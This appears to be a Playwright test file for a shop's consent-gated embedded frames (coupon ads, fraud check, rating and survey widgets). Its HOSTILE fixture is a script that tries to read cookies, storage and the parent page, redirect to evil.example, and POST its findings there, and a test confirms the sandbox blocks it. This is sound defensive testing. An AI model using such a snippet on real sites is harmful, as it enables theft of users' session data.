import { BrowserVisitor, freshEmail } from "../src/browser-visitor.ts";
import { freshCode } from "../src/codes.ts";
import { HEADPHONES, MUG } from "../src/demo-products.ts";
import { expectAccessible, expectNoHorizontalScrolling } from "../src/page-rules.ts";
import { expect, test } from "../src/recorded-test.ts";
import { applySecondWebsite, secondWebsiteOrigin } from "../src/second-website.ts";
import { expectNoShift, watchShifts } from "../src/shifts.ts";
import { giveAddress, putIntoBasket, startAtReview, startWithCode } from "../src/shortcuts.ts";

const VISA = 102;
const SOVENDUS = "api.sovendus.com";
const RISK = "www.jsctool.com";

/** Shows an offer, and tells its host what it was told and what it can read. */
const ADVERTISING = `
  const { iframeContainerId, ...told } = sovIframes[0];
  document.getElementById(iframeContainerId).innerHTML = '<h2 style="color:#111">Two weeks for free</h2>';
  fetch("https://${SOVENDUS}/told", { method: "POST", body: JSON.stringify({ ...told, referrer: document.referrer }) });`;

const SEEN = `fetch("https://${RISK}/seen", { method: "POST", body: JSON.stringify(di) });`;

const script = (body: string) => ({ type: "text/javascript", body });

test.use({
  consent: "open",
  vendors: {
    [SOVENDUS]: ({ path }) => (path.endsWith(".js") ? script(ADVERTISING) : script("")),
    [RISK]: ({ path }) => (path.endsWith(".js") ? script(SEEN) : script("")),
    "evil.example": () => script(""),
  },
});

/** Agrees to marketing alone on the page of the settings. */
async function agree({ page, t }: BrowserVisitor): Promise<void> {
  await page.goto("/de/cookies");
  await page.getByRole("checkbox", { name: t("consent.group.marketing") }).check();
  await page.getByRole("button", { name: t("consent.save"), exact: true }).click();
  await expect(page.getByText(t("consent.choice.agreed", { groups: t("consent.group.marketing") }))).toBeVisible();
}

const told = (received: readonly { host: string; path: string; body: string }[], host: string) =>
  received.filter((each) => each.host === host && each.body !== "").map(({ body }) => JSON.parse(body));

// [island.consent] [island.sovendus] [island.values] [island.place] [island.height]
test("the confirmation advertises for coupons after consent alone, and tells of the order no more than its value", {
  tag: "@order",
}, async ({ visitor, recorder }) => {
  const { page, t } = visitor;
  await startAtReview(visitor, { code: freshCode(100), products: [MUG], email: freshEmail() });
  const number = await visitor.order();
  const frame = page.locator("iframe");
  await expect(frame).toHaveCount(0);
  await agree(visitor);
  await watchShifts(page);
  await recorder.expectHosts("agreed", [SOVENDUS]);
  await page.goto("/de/checkout/confirmation");
  await expect(frame).toHaveAttribute("title", t("island.title", { service: "Sovendus" }));
  await expect(frame).toHaveAttribute("height", "480");
  await frame.scrollIntoViewIfNeeded();
  await expect(page.frameLocator("iframe").getByRole("heading", { name: "Two weeks for free" })).toBeVisible();
  await expect(page.getByText(t("island.advertising"), { exact: true })).toBeVisible();
  await expectNoShift(page);
  await expectAccessible(page);
  await expectNoHorizontalScrolling(page, [320, 390]);
  const [first] = told(recorder.received, SOVENDUS);
  expect(first).toEqual({
    trafficSourceNumber: "4711",
    trafficMediumNumber: "1",
    hasConsent: true,
    orderCurrency: "EUR",
    integrationType: "genericScript-1.5.0-hasConsent",
    orderValue: expect.any(Number),
    sessionId: expect.stringMatching(/^[\w-]{22}$/),
    orderId: expect.stringMatching(/^[\w-]{22}$/),
    referrer: expect.stringMatching(/^http:\/\/[^/]+\/$/),
  });
  expect(first.orderId).not.toContain(number);
  await page.reload();
  await frame.scrollIntoViewIfNeeded();
  await expect.poll(() => told(recorder.received, SOVENDUS).length).toBe(2);
  const [, second] = told(recorder.received, SOVENDUS);
  expect([second.orderId, second.sessionId === first.sessionId]).toEqual([first.orderId, false]);
});

// [island.risk]
test("the fraud service sees the device only after consent, at the button that begins the payment, under a token of each showing", async ({
  visitor,
  recorder,
}) => {
  const { page, t } = visitor;
  await startWithCode(visitor, freshCode(100));
  await putIntoBasket(visitor, HEADPHONES);
  await giveAddress(visitor, freshEmail());
  const choose = async () => {
    await visitor.open("/checkout/payment");
    await page.locator(`[name="payment_type_id"][value="${VISA}"]`).check();
    await visitor.button(t("payment.next")).click();
    await visitor.isAt("/checkout/address");
    await visitor.open("/checkout/confirm");
  };
  await choose();
  await expect(page.locator("iframe")).toHaveCount(0);
  await agree(visitor);
  await recorder.expectHosts("agreed", [RISK]);
  await choose();
  const token = page.locator('input[name="risk_token"]');
  await expect(token).toHaveValue(/^[\w-]{22}$/);
  const first = await token.inputValue();
  await expectAccessible(page);
  await page.reload();
  await expect(token).not.toHaveValue(first);
  await expect(token).toHaveValue(/^[\w-]{22}$/);
  const [, second] = told(recorder.received, RISK);
  expect(second).toEqual({ t: await token.inputValue(), v: "aurora", l: "Checkout" });
  const sent = page.waitForRequest(
    (request) => request.method() === "POST" && request.url().includes("/checkout/confirm"),
  );
  await visitor.termsBox.check();
  await visitor.orderButton.click();
  expect((await sent).postData()).toContain(`risk_token=${second.t}`);
  await expect(page).toHaveURL(/sandbox\.localhost.*\/saferpay\/pay\//);
});

const inAll = (text: string) =>
  `{ ${["de", "en", "fr", "pl", "nl", "es", "it"].map((language) => `${language}: "${text}"`).join(", ")} }`;

/** Tries everything that a frame could do to the page around it, and tells its host. */
const HOSTILE = `
title: ${inAll("Hostile")}
purpose: ${inAll("Tries what it can.")}
hosts: [evil.example]
place: page
html: |
  <form action="/de/cookies" method="post" target="_top"><button>Go</button></form>
  <script>
    const attempts = {
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      session: () => sessionStorage.length,
      database: () => indexedDB.open("x"),
      page: () => parent.document.title,
      address: () => parent.location.href,
      navigation: () => { top.location.href = "https://evil.example/away"; },
      shop: () => fetch("/de/basket"),
      call: () => fetch("/api/session/has-logged-in"),
      picture: () => new Promise((seen, failed) => Object.assign(new Image(), { onload: seen, onerror: () => failed({ name: "NoPicture" }), src: "/favicon.svg" })),
      script: () => new Promise((seen, failed) => document.head.append(Object.assign(document.createElement("script"), { onload: seen, onerror: () => failed({ name: "NoScript" }), src: "/assets/x.js" }))),
    };
    (async () => {
      const told = { origin: self.origin, order: self.order };
      for (const [name, attempt] of Object.entries(attempts)) {
        try { await attempt(); told[name] = "done"; } catch ({ name: error }) { told[name] = error; }
      }
      document.forms[0].submit();
      await fetch("https://evil.example/told", { method: "POST", body: JSON.stringify(told) });
    })();
  </script>
`;

test.describe("on another website", () => {
  test.use({ baseURL: async ({}, use) => use(secondWebsiteOrigin()) });

  // [island.frame] [island.snippet] [island.values]
  test("a hostile snippet reads neither page, cookie nor storage, leads nowhere, and reaches its own host alone", async ({
    page,
    recorder,
  }) => {
    const main = "title: Play\ndescription: Play\nmain:\n  - block: snippet\n    snippet: hostile\n";
    await applySecondWebsite({}, undefined, { play: main }, { hostile: HOSTILE });
    const visitor = new BrowserVisitor(page, "de", true);
    await page.goto("/de/play");
    await expect(page.locator("iframe")).toHaveCount(0);
    await page.goto("/de/cookies");
    await expect(page.getByText("Hostile: Tries what it can.")).toBeVisible();
    await agree(visitor);
    await recorder.expectHosts("agreed", ["evil.example"]);
    await page.goto("/de/play");
    await expect.poll(() => told(recorder.received, "evil.example")).toHaveLength(1);
    const denied = "SecurityError";
    expect(told(recorder.received, "evil.example")[0]).toEqual({
      origin: "null",
      order: { sessionId: expect.stringMatching(/^[\w-]{22}$/) },
      cookie: denied,
      storage: denied,
      session: denied,
      database: denied,
      page: denied,
      address: denied,
      navigation: denied,
      shop: "TypeError",
      call: "TypeError",
      picture: "NoPicture",
      script: "NoScript",
    });
    await visitor.isAt("/play");
    expect(recorder.received.map(({ path }) => path)).toEqual(["/told"]);
  });

  // [island.place] [island.survey] [island.trust]
  test("the welcome page advertises too, and beside their links rating and survey are shown after consent", async ({
    page,
    recorder,
  }) => {
    const id = "0123456789abcdef01234567";
    const code = await applySecondWebsite(
      {
        couponing_location: "welcome",
        page_options: {
          trustPilot: "https://rating.example/shop",
          trustWidget: { businessUnitId: id, templateId: id },
          surveyMonkey: "https://survey.example/r",
          surveyWidget: "active",
        },
      },
      undefined,
      {
        opinions: "title: Play\ndescription: Play\nmain:\n  - block: trust\n  - block: survey\n  - block: couponing\n",
      },
    );
    const visitor = new BrowserVisitor(page, "de", true);
    await visitor.logIn(code);
    const titles = async (path: string) => {
      await page.goto(path);
      const frames = await page.locator("iframe").all();
      return Promise.all(frames.map((frame) => frame.getAttribute("title")));
    };
    const links = page.getByRole("main").locator('a[href^="https://"]');
    expect(await titles("/de/welcome")).toEqual([]);
    expect(await titles("/de/opinions")).toEqual([]);
    await expect(links).toHaveCount(2);
    await agree(visitor);
    await recorder.expectHosts("agreed", [SOVENDUS, "survey.example", "widget.trustpilot.com"]);
    const title = (service: string) => visitor.t("island.title", { service });
    expect(await titles("/de/opinions")).toEqual([title("Trustpilot"), title("survey.example"), title("Sovendus")]);
    await expect(links).toHaveCount(2);
    await expectAccessible(page);
    for (const frame of await page.locator("iframe").all()) {
      await frame.scrollIntoViewIfNeeded();
    }
    await expect.poll(() => new Set(recorder.received.map(({ host }) => host)).size).toBe(3);
    expect(await titles("/de/welcome")).toEqual([title("Sovendus"), title("survey.example")]);
  });
});
